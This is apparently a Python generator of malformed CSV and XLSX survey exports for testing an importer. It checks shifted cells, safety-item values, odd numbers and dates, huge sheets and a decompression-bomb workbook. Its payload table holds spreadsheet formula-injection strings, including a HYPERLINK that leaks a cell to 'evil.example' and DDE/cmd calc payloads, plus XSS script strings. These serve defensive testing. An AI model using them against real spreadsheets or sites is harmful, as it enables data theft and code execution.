    elif how == "header_quote_open":
        out = '"' + text
    elif how == "huge_quoted_cell":
        big = ('Line of words, with commas; and "quotes"\r\n' * 25_000).replace('"', '""')
        lines[row] = lines[row] + sep + '"' + big + '"'
        out = "\r\n".join(lines)
    elif how == "all_quoted":
        buffer = io.StringIO()
        csv.writer(buffer, delimiter=sep, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerows(
            [[_text(c) for c in r] for r in grid]
        )
        out = buffer.getvalue()
    elif how == "spaces_around_quotes":
        out = re.sub(r'(^|[,;])"', r'\1  "', text, flags=re.M)
    else:
        raise ValueError(how)
    return bom + out.encode()


def _quoting() -> SpecIter:
    for s in samples():
        if s.is_xlsx:
            continue
        for how in (
            "cr_only",
            "lf_only",
            "mixed_eol",
            "unclosed_quote_early",
            "unclosed_quote_last",
            "stray_quote_mid_cell",
            "backslash_escaped",
            "header_quote_open",
            "huge_quoted_cell",
            "all_quoted",
            "spaces_around_quotes",
        ):
            yield _file(s, how, functools.partial(_quoted, s, how))


def _insert(row: list[object], at: int, *cells: object) -> list[object]:
    return [*row[:at], *cells, *row[at:]]


def _shifted_row() -> SpecIter:
    for s in samples():
        yield from _shifted_row_of(s)


def _shifted_row_of(s: Sample) -> SpecIter:
    if s.is_long:
        # A stray separator in the respondent cell of one of the target's answer rows.
        def long_shift(grid: Grid, at: int, extra: str) -> Grid:
            rows = _long_rows(sample("generic_long.csv"), grid)
            for n in rows[30:34]:  # the safety rows (SAF1..SAF4 follow the 30 scored items)
                grid[n] = _insert(grid[n], 1, extra)
            return grid

        for extra in ("", "x", "0"):
            yield _file(
                s,
                f"safety_rows_extra_{extra or 'blank'}",
                _target_file(s, functools.partial(long_shift, extra=extra)),
                expect=expect_safety(s, dict.fromkeys(SAFETY, None)),
            )
        return
    first_item = min(s.items.values())
    positions = {
        "p1": 1,
        "before_items": first_item,
        "mid_items": first_item + 12,
        "before_safety": s.items["SAF1"],
    }
    # A workbook has no separators: cells moved in one are simply what the file says.
    expect = None if s.is_xlsx else expect_safety(s, true_safety(s, *targeted(s)))
    for where, at in positions.items():
        for extra in ("", "x"):
            variant = f"target_{where}_extra_{extra or 'blank'}"
            change = functools.partial(_shift_target, col=at, extra=extra)
            yield _file(s, variant, _target_file(s, change), expect=expect)
    yield _file(
        s,
        "target_lost_cell_p1",
        _target_file(s, lambda g, at: _drop_cell(g, at, 1)),
        expect=expect,
    )
    yield _file(
        s,
        "every_row_p1",
        _grid_file(s, functools.partial(_shift_all, first=s.header_rows)),
    )
    yield _file(s, "header_p1", _grid_file(s, lambda g: _shift_header(g)))


def _shift_target(grid: Grid, at: int, *, col: int, extra: str) -> Grid:
    grid[at] = _insert(grid[at], col, extra)
    return grid


def _drop_cell(grid: Grid, at: int, col: int) -> Grid:
    del grid[at][col]
    return grid


def _shift_all(grid: Grid, first: int) -> Grid:
    for n in range(first, len(grid)):
        grid[n] = _insert(grid[n], 1, "")
    return grid


def _shift_header(grid: Grid) -> Grid:
    grid[0] = _insert(grid[0], 1, "")
    return grid


def _set_safety(s: Sample, grid: Grid, at: int, values: Mapping[str, object]) -> Grid:
    """Set safety cells of the target (row, or rows of the long layout)."""
    if s.is_long:
        for n in _long_rows(s, grid):
            if grid[n][2] in values:
                grid[n][3] = values[str(grid[n][2])]
        return grid
    for code, value in values.items():
        grid[at][s.items[code]] = value
    return grid


def _safety_blank() -> SpecIter:
    for s in samples():
        yield from _safety_blank_of(s)


def _safety_blank_of(s: Sample) -> SpecIter:
    blank4 = dict.fromkeys(SAFETY, None)
    for variant, cell in (
        ("all_blank", ""),
        ("all_whitespace", "  "),
        ("all_na", "N/A"),
        ("all_dash", "-"),
    ):
        values = dict.fromkeys(SAFETY, cell)
        yield _file(
            s,
            variant,
            _target_file(s, functools.partial(_set_target_safety, s, values=values)),
            expect=expect_safety(s, blank4),
        )
    one = {
        "SAF1": _safety_cell(s, 1),
        "SAF2": "",
        "SAF3": _safety_cell(s, 0),
        "SAF4": _safety_cell(s, 0),
    }
    yield _file(
        s,
        "saf2_blank_saf1_once",
        _target_file(s, functools.partial(_set_target_safety, s, values=one)),
        expect=expect_safety(s, {"SAF1": 1.0, "SAF2": None, "SAF3": 0.0, "SAF4": 0.0}),
    )
    yield _file(
        s,
        "every_row_blank",
        _grid_file(s, functools.partial(_blank_every_row, s)),
        expect=expect_safety(s, blank4),
    )
    if s.is_long:
        yield _file(
            s,
            "safety_rows_missing",
            _target_file(s, functools.partial(_drop_long_safety, s)),
            expect=expect_safety(s, blank4),
        )
        return
    truth = true_safety(s, *targeted(s))
    cut_before = s.items["SAF1"]
    yield _file(
        s,
        "row_cut_before_safety",
        _target_file(s, functools.partial(_cut_row, col=cut_before)),
        expect=expect_safety(s, blank4),
    )
    yield _file(
        s,
        "row_cut_after_saf2",
        _target_file(s, functools.partial(_cut_row, col=s.items["SAF3"])),
        expect=expect_safety(s, {**truth, "SAF3": None, "SAF4": None}),
    )


def _set_target_safety(s: Sample, grid: Grid, at: int, *, values: Mapping[str, object]) -> Grid:
    return _set_safety(s, grid, at, values)


def _blank_every_row(s: Sample, grid: Grid) -> Grid:
    if s.is_long:
        for row in grid[1:]:
            if row[2] in SAFETY:
                row[3] = ""
        return grid
    for row in grid[s.header_rows :]:
        for code in SAFETY:
            if s.items[code] < len(row):
                row[s.items[code]] = ""
    return grid


def _drop_long_safety(s: Sample, grid: Grid, at: int) -> Grid:
    drop = {n for n in _long_rows(s, grid) if grid[n][2] in SAFETY}
    return [r for n, r in enumerate(grid) if n not in drop]


def _cut_row(grid: Grid, at: int, *, col: int) -> Grid:
    grid[at] = grid[at][:col]
    return grid


def _dangerous(s: Sample, grid: Grid, at: int) -> Grid:
    """The target row with SAT3 at the lowest answer and safety answers 2, 0, 0, 1, so that a
    shift by one puts plausible values (0, 2, 0, 0) under the safety items."""
    if not s.is_long:
        grid[at][s.items["SAT3"]] = _lowest(s)
    values = {c: _safety_cell(s, v) for c, v in zip(SAFETY, (2, 0, 0, 1), strict=True)}
    return _set_safety(s, grid, at, values)


_DANGEROUS = dict(zip(SAFETY, (2.0, 0.0, 0.0, 1.0), strict=True))


def _safety_shifted() -> SpecIter:
    for s in samples():
        yield from _safety_shifted_of(s)


def _safety_shifted_of(s: Sample) -> SpecIter:
    expect = None if s.is_xlsx else expect_safety(s, _DANGEROUS)
    if s.is_long:

        def long_extra(grid: Grid, at: int) -> Grid:
            grid = _dangerous(s, grid, at)
            for n in _long_rows(s, grid):
                if grid[n][2] in SAFETY:
                    grid[n] = [*grid[n][:3], "", grid[n][3]]
            return grid

        yield _file(
            s,
            "value_in_extra_column",
            _target_file(s, long_extra),
            expect=expect_safety(s, dict.fromkeys(SAFETY, None)),
        )
        yield _file(
            s,
            "item_and_value_swapped",
            _target_file(s, functools.partial(_long_swap, s)),
            expect=expect_safety(s, dict.fromkeys(SAFETY, None)),
        )
        return
    # "Before the answers": the respondent and date cells stay in place, every answer moves.
    saf1, first = s.items["SAF1"], min(s.items.values())
    for variant, change in (
        ("right_by_1_p1", functools.partial(_insert_at_col, col=1, n=1)),
        ("right_by_1_before_answers", functools.partial(_insert_at_col, col=first, n=1)),
        ("right_by_2_before_answers", functools.partial(_insert_at_col, col=first, n=2)),
        ("right_by_1_before_safety", functools.partial(_insert_at_col, col=saf1, n=1)),
        ("left_by_1_before_answers", functools.partial(_drop_at_col, col=first)),
        ("left_by_1_before_safety", functools.partial(_drop_at_col, col=saf1 - 1)),
    ):
        yield _file(
            s,
            variant,
            _target_file(s, functools.partial(_then, s, change)),
            expect=expect,
        )
    yield _file(
        s,
        "moved_to_extra_columns",
        _target_file(s, functools.partial(_moved_to_extra, s)),
        expect=expect_safety(s, dict.fromkeys(SAFETY, None)),
    )


def _then(s: Sample, change: Callable[[Grid, int], Grid], grid: Grid, at: int) -> Grid:
    return change(_dangerous(s, grid, at), at)


def _insert_at(grid: Grid, at: int, col: int, n: int) -> Grid:
    grid[at] = _insert(grid[at], col, *([""] * n))
    return grid


def _insert_at_col(grid: Grid, at: int, *, col: int, n: int) -> Grid:
    return _insert_at(grid, at, col, n)


def _drop_at_col(grid: Grid, at: int, *, col: int) -> Grid:
    return _drop_cell(grid, at, col)


def _moved_to_extra(s: Sample, grid: Grid, at: int) -> Grid:
    grid = _dangerous(s, grid, at)
    moved = [grid[at][s.items[c]] for c in SAFETY]
    for c in SAFETY:
        grid[at][s.items[c]] = ""
    width = max(len(r) for r in grid)
    grid[at] = [*grid[at], *([""] * (width - len(grid[at]))), *moved]
    return grid


def _long_swap(s: Sample, grid: Grid, at: int) -> Grid:
    for n in _long_rows(s, grid):
        if grid[n][2] in SAFETY:
            grid[n][2], grid[n][3] = grid[n][3], grid[n][2]
    return grid


def _row_shape() -> SpecIter:
    for s in samples():
        yield from _row_shape_of(s)


def _row_shape_of(s: Sample) -> SpecIter:
    truth = true_safety(s, *targeted(s))
    expect = expect_safety(s, truth)
    hows: dict[str, Callable[[Grid, int], Grid]] = {
        "target_trailing_empty_cell": lambda g, at: _append(g, at, [""]),
        "target_five_extra_cells": lambda g, at: _append(g, at, ["1", "2", "x", "", "6"]),
        "target_short_by_one": lambda g, at: _cut_row(g, at, col=len(g[at]) - 1),
        "target_one_cell": lambda g, at: _cut_row(g, at, col=1),
        "target_ten_thousand_cells": lambda g, at: _append(g, at, ["0"] * 10_000),
    }
    for variant, change in hows.items():
        cut_safety = variant == "target_one_cell" or (
            variant == "target_short_by_one"
            and not s.is_long
            and s.items["SAF4"] == len(s.rows[0]) - 1
        )
        yield _file(
            s,
            variant,
            _target_file(s, change),
            expect=None if cut_safety or s.is_long else expect,
        )
    for variant, grid_change in {
        "header_short_by_one": lambda g: [g[0][:-1], *g[1:]],
        "header_long_by_one": lambda g: [[*g[0], "Extra"], *g[1:]],
        "every_row_short_by_one": lambda g: [*g[:1], *(r[:-1] for r in g[1:])],
        "alternate_long_short": lambda g: [
            *g[:1],
            *(([*r, ""] if n % 2 else r[:-1]) for n, r in enumerate(g[1:])),
        ],
    }.items():
        yield _file(s, variant, _grid_file(s, grid_change))


def _append(grid: Grid, at: int, cells: list[object]) -> Grid:
    grid[at] = [*grid[at], *cells]
    return grid


def _header() -> SpecIter:
    for s in samples():
        yield from _header_of(s)


def _header_of(s: Sample) -> SpecIter:
    h = s.header_rows
    changes: dict[str, Callable[[Grid], Grid]] = {
        "duplicate_respondent_column": lambda g: [
            [*r[: s.who + 1], r[s.who], *r[s.who + 1 :]] for r in g
        ],
        "duplicate_item_header": lambda g: _dup_header(g, s),
        "blank_item_header": lambda g: _blank_header(g, s, one=True),
        "all_headers_blank": lambda g: _blank_header(g, s, one=False),
        "reserved_names": lambda g: [
            [
                "_row",
                "_respondent_email",
                "_completed_at",
                "_response_id",
                "_respondent_code",
                "_completed_raw",
                *g[0][6:],
            ],
            *g[1:],
        ],
        "header_repeated_mid_file": lambda g: [*g, *g[:h], *g[h:]],
        "header_with_newline": lambda g: [[f"{c}\nsecond line" if c else c for c in g[0]], *g[1:]],
        "header_spaces_and_case": lambda g: [[f"  {str(c).upper()} " for c in g[0]], *g[1:]],
        "header_twice_at_top": lambda g: [*g[:h], *g[:h], *g[h:]],
        "huge_header_cell": lambda g: [[*g[0][:-1], "Q" * 100_000], *g[1:]],
    }
    for variant, change in changes.items():
        yield _file(s, variant, _grid_file(s, change))
    if not s.is_xlsx:
        yield _file(
            s,
            "excel_sep_line",
            functools.partial(_prefixed, s, f"sep={s.delimiter}\r\n".encode()),
        )


def _prefixed(s: Sample, prefix: bytes) -> bytes:
    data = s.data[3:] if s.bom else s.data
    return prefix + data


def _dup_header(grid: Grid, s: Sample) -> Grid:
    if s.is_long:
        grid[0] = [*grid[0][:3], "item", "value"]
        return grid
    saf1 = s.items["SAF1"]
    for row in grid[: s.header_rows]:
        row[saf1 + 1] = row[saf1]
    return grid


def _blank_header(grid: Grid, s: Sample, *, one: bool) -> Grid:
    for row in grid[: s.header_rows]:
        if one:
            row[s.items.get("SAF2", 2)] = ""
        else:
            row[:] = [""] * len(row)
    return grid


_HOMOGLYPH = str.maketrans(
    {"a": "\u0430", "e": "\u0435", "o": "\u043e", "A": "\u0410", "E": "\u0415"}
)  # Cyrillic letters that look like Latin ones


def _respondent() -> SpecIter:
    for s in samples():
        yield from _respondent_of(s)


def _respondent_of(s: Sample) -> SpecIter:
    truth = true_safety(s, *targeted(s))
    who = s.who
    changes: dict[str, tuple[Callable[[str], str], Expect | None]] = {
        "upper_case": (str.upper, expect_safety(s, truth)),
        "lower_case": (str.lower, expect_safety(s, truth)),
        "spaces_tabs": (lambda v: f" \t{v} \t", expect_safety(s, truth)),
        "mailto_prefix": (lambda v: f"mailto:{v}", expect_safety(s, truth)),
        "display_name": (lambda v: f"Ann Example <{v}>", expect_safety(s, truth)),
        "homoglyph": (lambda v: v.translate(_HOMOGLYPH), Expect(s.respondent, stored=False)),
        "zero_width_space": (lambda v: f"{v[:3]}\u200b{v[3:]}", expect_safety(s, truth)),
        "two_ids": (lambda v: f"{v}; d099.b@example.org", expect_safety(s, truth)),
        "blank": (lambda v: "", None),
    }
    for variant, (change, expect) in changes.items():
        yield _file(
            s,
            variant,
            _target_file(s, functools.partial(_change_who, s, who, change)),
            expect=expect,
        )
    if s.stem == "qualtrics":
        # An email of one client with the client code of another (partner B of D-006).
        yield _file(
            s,
            "email_and_code_disagree",
            _target_file(s, lambda g, at: _set(g, at, 12, "D-006B")),
            expect=Expect(s.respondent, stored=False),
        )


def _change_who(s: Sample, who: int, change: Callable[[str], str], grid: Grid, at: int) -> Grid:
    rows = _long_rows(s, grid) if s.is_long else [at]
    if s.stem == "redcap":
        rows = [at - 1]  # the client code sits on the record's enrolment row
    for n in rows:
        grid[n][who] = change(_text(grid[n][who]))
    return grid


def _duplicate() -> SpecIter:
    for s in samples():
        yield from _duplicate_of(s)


def _duplicate_of(s: Sample) -> SpecIter:
    h = s.header_rows
    changes: dict[str, Callable[[Grid], Grid]] = {
        "whole_export_twice": lambda g: [*g, *g],
        "rows_twice": lambda g: [*g[:h], *g[h:], *g[h:]],
        "rows_fifty_times": lambda g: [*g[:h], *(g[h:] * 50)],
    }
    for variant, change in changes.items():
        yield _file(s, variant, _grid_file(s, change))
    if not s.is_long:
        yield _file(
            s,
            "same_second_other_answers",
            _target_file(s, functools.partial(_twin, s)),
        )


def _twin(s: Sample, grid: Grid, at: int) -> Grid:
    twin = list(grid[at])
    twin[s.items["CON1"]] = _lowest(s)
    grid.insert(at + 1, twin)
    return grid


_PAYLOADS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "plus_cmd": "+cmd|' /C calc'!A0",
    "minus_cmd": "-2+3+cmd|' /C calc'!A0",
    "at_sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "dde": '=DDE("cmd";"/C calc";"!A0")',
    "tab_equals": "\t=1+1",
    "script": "<script>alert(document.cookie)</script>",
    "img_onerror": '<img src=x onerror="alert(1)">',
    "md_link": "[link](http://x) ![img](http://x/i.png)",
    "latex": "$\\LaTeX$ $$x^2$$ \\(a\\)",
    "md_styles": "**bold** _it_ `code` :red[text] # Heading\n---",
    "rtl_override": "abc\u202edcba\u202c and \u200b\ufeff",
    "ansi_escape": "\x1b[31mred\x1b[0m \x07 bell",
    "html_entities": "&lt;b&gt; &#60;i&#62; &amp;",
    "long_text": "word " * 20_000,
}


def _markup() -> SpecIter:
    for s in samples():
        yield from _markup_of(s)
    xl = sample("microsoft_forms.xlsx")
    formulas = {
        "formula_hyperlink": Raw('t="str"', '<f>HYPERLINK("http://x","y")</f><v>y</v>', "y"),
        "formula_no_cached_value": Raw("", "<f>1+1</f>"),
        "formula_shared": Raw("", '<f t="shared" ref="A1:A9" si="0">A1+1</f><v>3</v>', "3"),
        "formula_array": Raw("", '<f t="array" ref="A1">SUM(A1:A9)</f><v>0</v>', "0"),
        "error_cell": Raw('t="e"', "<v>#DIV/0!</v>", "#DIV/0!"),
        "inline_string_markup": Raw(
            't="inlineStr"', "<is><t>&lt;script&gt;x&lt;/script&gt;</t></is>", "<script>x</script>"
        ),
        "rich_text": Raw(
            't="inlineStr"', "<is><r><rPr><b/></rPr><t>Ag</t></r><r><t>ree</t></r></is>", "Agree"
        ),
    }
    for variant, cell in formulas.items():
        for where, code in (("answer", "CON1"), ("text", "TXT2")):
            yield _file(
                xl,
                f"{where}_{variant}",
                _target_file(xl, _setter(xl.items[code], cell)),
            )


def _markup_of(s: Sample) -> SpecIter:
    for variant, payload in _spread(list(_PAYLOADS.items()), s, 5):
        yield _file(s, f"text_{variant}", functools.partial(_markup_text, s, payload))
    truth = true_safety(s, *targeted(s))
    for variant, payload in [("hyperlink", _PAYLOADS["hyperlink"])]:
        if not s.is_long:
            yield _file(
                s,
                f"answer_{variant}",
                _target_file(s, _setter(s.items["CON1"], payload)),
            )
            yield _file(
                s,
                f"safety_{variant}",
                _target_file(s, _setter(s.items["SAF1"], payload)),
                expect=expect_safety(s, {**truth, "SAF1": None}),
            )
        yield _file(
            s,
            f"header_{variant}",
            _grid_file(s, functools.partial(_set_last_header, value=payload)),
        )
        yield _file(
            s,
            f"respondent_{variant}",
            _target_file(s, _setter(s.who, payload)),
        )


def _markup_text(s: Sample, payload: str) -> bytes:
    return emit(s, _with_text(s, payload))


# Extreme numbers: (cell, what a safety item must hold if the row is stored: a number, None for
# "never a number", or ... when either is defensible).
_NUMBERS: list[tuple[str, str, float | EllipsisType | None]] = [
    ("1e308", "1e308", None),
    ("minus_1e308", "-1e308", None),
    ("1e309", "1e309", None),
    ("minus_zero", "-0", 0.0),
    ("zero_point_zero", "0.0", 0.0),
    ("minus_zero_point", "-0.0", 0.0),
    ("nan", "NaN", None),
    ("nan_lower", "nan", None),
    ("inf", "inf", None),
    ("minus_inf", "-inf", None),
    ("infinity", "Infinity", None),
    ("digits_400", "1" + "0" * 400, None),
    ("tiny_400", "0." + "0" * 400 + "1", None),
    ("1e_minus_400", "1e-400", None),
    ("hex", "0x1", None),
    ("underscore", "1_0", None),
    ("arabic_indic_3", "\u0663", ...),
    ("fullwidth_1", "\uff11", ...),
    ("plus_one", "+1", 1.0),
    ("almost_one", "1.0000000000000002", ...),
    ("two_and_half", "2.5", None),
    ("exponent_1", "1e0", ...),
    ("padded_two", " 2 ", 2.0),
    ("leading_zeros", "00002", 2.0),
    ("nines_20", "9" * 20, None),
    ("minus_one", "-1", None),
    ("three", "3", None),
]
_SCORED_NUMBERS = ["1e308", "-0", "NaN", "inf", "1" + "0" * 400, "7", "-1", "6.5"]


def _number() -> SpecIter:
    for s in samples():
        yield from _number_of(s)
    for s in (sample("google_forms.csv"), sample("generic_long.csv")):
        for variant, cell in (
            ("1e308", "1e308"),
            ("nan", "NaN"),
            ("minus_zero", "-0"),
            ("digits_400", "1" + "0" * 400),
        ):
            yield _file(
                s,
                f"label_cells_{variant}",
                _target_file(
                    s, functools.partial(_set_target_safety, s, values=dict.fromkeys(SAFETY, cell))
                ),
            )
    xl = sample("microsoft_forms.xlsx")
    truth = true_safety(xl, *targeted(xl))
    raw_numbers = {
        "1e308": ("1e308", None),
        "1e400": ("1E+400", None),
        "nan": ("NaN", None),
        "inf": ("INF", None),
        "minus_zero": ("-0", 0.0),
        "tiny": ("1e-400", ...),
        "two_pow_53_plus_1": ("9007199254740993", None),
        "point_three": ("0.30000000000000004", None),
        "empty_v": ("", None),
        "text_in_number": ("abc", None),
        "one": ("1", 1.0),
    }
    for variant, (value, wanted) in raw_numbers.items():
        safety = dict(truth)
        if wanted is ...:
            safety.pop("SAF1")
        else:
            safety["SAF1"] = wanted
        raw = Raw("", f"<v>{value}</v>", value)
        yield _file(
            xl,
            f"saf1_raw_{variant}",
            _target_file(xl, _setter(xl.items["SAF1"], raw)),
            expect=expect_safety(xl, safety),
        )


def _number_of(s: Sample) -> SpecIter:
    if s.labels:
        return
    truth = true_safety(s, *targeted(s))
    for variant, cell, wanted in _spread(_NUMBERS, s, 9):
        safety = dict(truth)
        if wanted is ...:
            safety.pop("SAF1")
        else:
            safety["SAF1"] = wanted
        yield _file(
            s,
            f"saf1_{variant}",
            _target_file(s, _setter(s.items["SAF1"], cell)),
            expect=expect_safety(s, safety),
        )
    for n, cell in enumerate(_spread(_SCORED_NUMBERS, s, 3)):
        yield _file(
            s,
            f"con1_{n}",
            _target_file(s, _setter(s.items["CON1"], cell)),
            expect=expect_safety(s, truth),
        )


# Extreme dates: (variant, text, must the row be refused?) (None: either is defensible).
_DATES: list[tuple[str, str, bool | None]] = [
    ("year_0000", "0000-01-01 00:00:00", True),
    ("year_0099", "0099-12-31 12:00:00", True),
    ("year_1850", "1850-06-01 12:00:00", True),
    ("year_9999", "9999-12-31 23:59:59", True),
    ("year_2100", "2100-01-01 00:00:00", True),
    ("year_1970", "1970-01-01 00:00:00", True),
    ("two_digit_us", "11/05/26 18:44:39", True),
    ("two_digit_iso", "26-11-05 18:44", True),
    ("two_digit_dots", "05.11.26", True),
    ("gmt_plus_99", "2026/11/05 6:44:39 PM GMT+99", True),
    ("offset_plus_99", "2026-11-05T18:44:39+99:00", True),
    ("gmt_plus_14_30", "2026/11/05 6:44:39 PM GMT+14:30", True),
    ("gmt_minus_14", "2026/11/05 6:44:39 PM GMT-14", None),
    ("feb_30", "2026-02-30 10:00:00", True),
    ("nov_31", "2026-11-31 10:00:00", True),
    ("month_13", "2026-13-05 10:00:00", True),
    ("hour_25", "2026-11-05 25:61:61", True),
    ("hour_24", "2026-11-05 24:00:00", None),
    ("blank", "", True),
    ("words", "yesterday", True),
    ("epoch_seconds", "1762368279", None),
    ("unknown_zone", "2026-11-05 18:44:39 XYZ", None),
    ("negative_year", "-2026-11-05 10:00:00", True),
    ("year_10000", "10000-01-01", True),
]
_XLSX_SERIALS = {
    "serial_0": "0",
    "serial_minus_1": "-1",
    "serial_60": "60",
    "serial_2958466": "2958466",
    "serial_1e10": "1e10",
    "serial_nan": "NaN",
}


def _date() -> SpecIter:
    for s in samples():
        yield from _date_of(s)
    xl = sample("microsoft_forms.xlsx")
    for variant, serial in _XLSX_SERIALS.items():
        cell = Raw('s="1"', f"<v>{serial}</v>", serial)
        yield _file(
            xl,
            variant,
            _target_file(xl, functools.partial(_set_dates, xl, value=cell)),
            expect=Expect(xl.respondent, stored=False),
        )


def _date_of(s: Sample) -> SpecIter:
    for variant, text, refused in _spread(_DATES, s, 8):
        expect = Expect(s.respondent, stored=False) if refused else None
        yield _file(
            s,
            variant,
            _target_file(s, functools.partial(_set_dates, s, value=text)),
            expect=expect,
        )


def _set_dates(s: Sample, grid: Grid, at: int, *, value: object) -> Grid:
    rows = _long_rows(s, grid) if s.is_long else [at]
    for n in rows:
        for col in s.dates:
            grid[n][col] = value
    return grid


def _wide() -> SpecIter:
    g = sample("google_forms.csv")
    yield _file(
        g,
        "ten_thousand_columns",
        functools.partial(_padded_columns, "google_forms.csv", 10_000),
    )
    yield _file(
        g,
        "sixteen_thousand_385_columns",
        functools.partial(_padded_columns, "google_forms.csv", 16_385),
    )
    w = sample("generic_wide.csv")
    yield _file(
        w,
        "ten_thousand_item_like_columns",
        functools.partial(_padded_columns, "generic_wide.csv", 10_000),
    )
    header = ",".join(f"c{n}" for n in range(10_000))
    ones = ",".join("1" for _ in range(10_000))
    yield _file(
        None,
        "ten_thousand_columns_5_rows",
        _const(("\r\n".join([header, *[ones] * 5]) + "\r\n").encode()),
    )
    yield _file(
        None,
        "ten_thousand_columns_utf16_tab",
        _const(("\r\n".join([header, ones]).replace(",", "\t")).encode("utf-16")),
    )
    yield _file(
        None,
        "hundred_thousand_columns",
        _const((",".join("x" * 1 for _ in range(100_000)) + "\r\n").encode()),
    )
    yield _file(
        None,
        "million_separators",
        _const(b"email,completed_at," + b"," * 1_000_000 + b"\r\n"),
    )
    yield _file(None, "sixteen_thousand_384_cells", _xfd_row, ext=".xlsx")


def _padded_columns(name: str, width: int) -> bytes:
    s = sample(name)
    grid = s.grid()
    pad = width - len(grid[0])
    grid[0] = [*grid[0], *(f"Extra question {n}" for n in range(pad))]
    for row in grid[1:]:
        row.extend([""] * pad)
    return emit(s, grid)


def _xfd_row() -> bytes:
    cells = "".join(f'<c r="{column_name(c)}1"><v>{c}</v></c>' for c in range(16_384))
    cells2 = "".join(f'<c r="{column_name(c)}2"><v>1</v></c>' for c in range(16_384))
    return package([sheet_xml(f'<row r="1">{cells}</row><row r="2">{cells2}</row>')])


def _many_rows() -> SpecIter:
    g = sample("google_forms.csv")
    yield _file(g, "rows_25000", functools.partial(_repeat_rows, g.name, 25_000))
    yield _file(g, "over_20_mb", functools.partial(_over_limit, g.name))
    t = sample("typeform.csv")
    yield _file(t, "rows_50000", functools.partial(_repeat_rows, t.name, 50_000))
    lg = sample("generic_long.csv")
    yield _file(lg, "rows_250000", functools.partial(_repeat_rows, lg.name, 250_000))
    yield _file(g, "strangers_20000", functools.partial(_strangers, 20_000))
    yield _file(
        g,
        "two_million_blank_lines",
        lambda: sample("google_forms.csv").data + b"\r\n" * 2_000_000,
    )
    yield _file(None, "five_million_newlines", _const(b"\n" * 5_000_000))
    yield _file(None, "million_one_cell_rows", _const(b"a\n" * 1_000_000))
    yield _file(None, "rows_200000", _many_xlsx_rows, ext=".xlsx")


def _repeat_rows(name: str, count: int) -> bytes:
    s = sample(name)
    grid = s.grid()
    body = grid[s.header_rows :]
    rows = [*grid[: s.header_rows], *(body * (count // len(body) + 1))[:count]]
    return emit(s, rows)


def _over_limit(name: str) -> bytes:
    data = sample(name).data
    body = data[data.find(b"\r\n") + 2 :]
    return data + body * ((20 * 1024 * 1024) // len(body) + 1)


def _strangers(count: int) -> bytes:
    s = sample("google_forms.csv")
    grid = s.grid()
    row = grid[1]
    rows = [grid[0]]
    for n in range(count):
        copy = list(row)
        copy[1] = f"stranger{n}@example.org"
        copy[0] = (
            f"2026/11/{1 + n % 17:02d} {1 + n % 11}:{n % 60:02d}:{(n // 60) % 60:02d} PM GMT+1"
        )
        rows.append(copy)
    return emit(s, rows)


def _many_xlsx_rows() -> bytes:
    unit = b'<row><c t="inlineStr"><is><t>a@b.org</t></is></c><c><v>1</v></c></row>'
    head = sheet_xml('<row><c t="inlineStr"><is><t>Email</t></is></c></row>')
    cut = head.index(b"</sheetData>")
    return package(
        [bomb_part("xl/worksheets/sheet1.xml", head[:cut], unit * 1000, 200, head[cut:])]
    )


def _empty() -> SpecIter:
    for variant, data in {
        "zero_bytes": b"",
        "newline": b"\n",
        "crlf_crlf": b"\r\n\r\n",
        "spaces_tabs": b"   \t ",
        "utf8_bom": codecs.BOM_UTF8,
        "utf16le_bom": codecs.BOM_UTF16_LE,
        "utf16be_bom": codecs.BOM_UTF16_BE,
        "utf8_bom_crlf": codecs.BOM_UTF8 + b"\r\n",
        "ctrl_z": b"\x1a",
        "one_nul": b"\x00",
        "separators_only": b",,,,\r\n,,,,\r\n",
        "quotes_only": b'""\r\n""\r\n',
    }.items():
        yield _file(None, variant, _const(data))
    for s in samples():
        yield _file(s, "header_only", _grid_file(s, functools.partial(_head, rows=s.header_rows)))
    yield _file(None, "workbook_no_cells", _const(package([sheet_xml("")])), ext=".xlsx")
    yield _file(None, "workbook_no_sheets", lambda: package([]), ext=".xlsx")
    yield _file(
        None,
        "workbook_dimension_only",
        _const(package([sheet_xml("", dimension="A1")])),
        ext=".xlsx",
    )


def _inline(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{escape(text)}</t></is></c>'


def _dimension() -> SpecIter:
    xl = sample("microsoft_forms.xlsx")
    far = _inline("XFD1048576", "x")
    cases: dict[str, Callable[[], bytes]] = {
        "single_cell_xfd1048576_declared": lambda: package(
            [sheet_xml(f'<row r="1048576">{far}</row>', dimension="A1:XFD1048576")]
        ),
        "single_cell_xfd1048576": lambda: package([sheet_xml(f'<row r="1048576">{far}</row>')]),
        "single_cell_a1048576": lambda: package(
            [sheet_xml(f'<row r="1048576">{_inline("A1048576", "x")}</row>')]
        ),
        "single_cell_xfd1": lambda: package(
            [sheet_xml(f'<row r="1">{_inline("XFD1", "x")}</row>')]
        ),
        "a1_and_xfd1048576": lambda: package(
            [sheet_xml(f'<row r="1">{_inline("A1", "Email")}</row><row r="1048576">{far}</row>')]
        ),
        "declared_only": lambda: package(
            [sheet_xml(f'<row r="1">{_inline("A1", "x")}</row>', dimension="A1:XFD1048576")]
        ),
        "declared_garbage": lambda: package(
            [sheet_xml(f'<row r="1">{_inline("A1", "x")}</row>', dimension="A1:ZZZZZZ99999999999")]
        ),
        "row_spans_all_columns": lambda: package(
            [sheet_xml(f'<row r="1048576" spans="1:16384">{far}</row>')]
        ),
        "row_number_beyond_limit": lambda: package(
            [sheet_xml(f'<row r="1048577">{_inline("A1048577", "x")}</row>')]
        ),
        "row_number_huge": lambda: package(
            [sheet_xml(f'<row r="99999999999">{_inline("A99999999999", "x")}</row>')]
        ),
        "row_number_zero_and_negative": lambda: package(
            [
                sheet_xml(
                    f'<row r="0">{_inline("A0", "x")}</row><row r="-1">{_inline("A-1", "y")}</row>'
                )
            ]
        ),
        "column_beyond_xfd": lambda: package(
            [sheet_xml(f'<row r="1">{_inline("ZZZZ1", "x")}</row>')]
        ),
        "sample_declared_huge": lambda: xlsx(
            sample("microsoft_forms.xlsx").rows, dimension="A1:XFD1048576"
        ),
        "sample_plus_far_cell": lambda: _sample_plus(far, "1048576"),
        "sample_plus_cell_row_1000000": lambda: _sample_plus(_inline("A1000000", "x"), "1000000"),
    }
    for variant, make in cases.items():
        yield _file(xl, variant, make)


def _sample_plus(cell: str, row: str) -> bytes:
    data = xlsx(sample("microsoft_forms.xlsx").rows)
    sheet = _read_part(data, "xl/worksheets/sheet1.xml")
